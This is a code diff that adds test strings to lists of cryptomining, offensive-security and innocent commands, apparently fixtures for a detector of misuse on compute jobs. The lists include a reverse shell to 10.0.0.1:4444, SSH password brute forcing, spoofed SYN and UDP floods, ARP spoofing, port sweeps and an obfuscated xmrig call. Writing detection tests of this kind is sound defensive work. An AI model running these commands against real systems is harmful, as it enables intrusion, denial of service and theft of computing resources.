@@ -27,6 +27,9 @@ MINING = [
     "srun ./xmrig -c config.json",
     "export POOL=pool.supportxmr.com:443\n./run $POOL",
     "A=xm\nB=rig\n./$A$B -c c.json",
+    "chia plots create -k 32 -n 4 -t /scratch -d /plots",
+    "./chia_plot -n 1 -r 16 -t /tmp/ -f $FARMER -c $CONTRACT",
+    "./qli-client",
 ]
 CYBER = [
     "hashcat -m 1000 -a 0 hashes.txt words.txt",
@@ -38,6 +41,15 @@ CYBER = [
     "./prog 10.1.0.0/16 --rate 100000 -p80,443",
     "sudo hping3 -S --flood -p 80 example.org",
     "python3 slowloris.py example.org",
+    "import paramiko\nfor p in passwords:\n    client.connect(host, username=user, password=p)",
+    "for h in $(seq 255); do (echo > /dev/tcp/10.1.2.$h/22) && echo $h; done",
+    "import itertools, hashlib\nfor t in itertools.product(string.ascii_lowercase, repeat=7):\n  hashlib.md5(t).hexdigest()",
+    "./x -L names -P words -M hosts -t 32 ssh",
+    "from scapy.all import *\nwhile True: send(IP(dst=target, src=RandIP())/TCP(flags='S'))",
+    "python3 udp_flood.py 10.0.0.1 53",
+    "subfinder -d example.org | httpx | nuclei -t cves/",
+    "arpspoof -i eth0 -t 10.0.0.2 10.0.0.1",
+    "./solver -p$PORT $RANGE --rate=1000 -oL found.txt",
     "cat /usr/share/wordlists/rockyou.txt | ./job",
     "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
     "nvcc main.cu -o cracker\n./cracker hash.txt",
@@ -55,6 +67,9 @@ INNOCENT = [
     "gmx mdrun -s topol.tpr -o traj.trr -c out.gro",
     "nc_file=out.nc; ncdump -h $nc_file",
     "# xmrig -o stratum+tcp://pool:3333",
+    "echo 'Mining (xmrig) is forbidden here'",
+    'ps aux | grep -E "xmrig|ethminer"',
+    "nmap -p 8888 localhost",
 ]
 
 
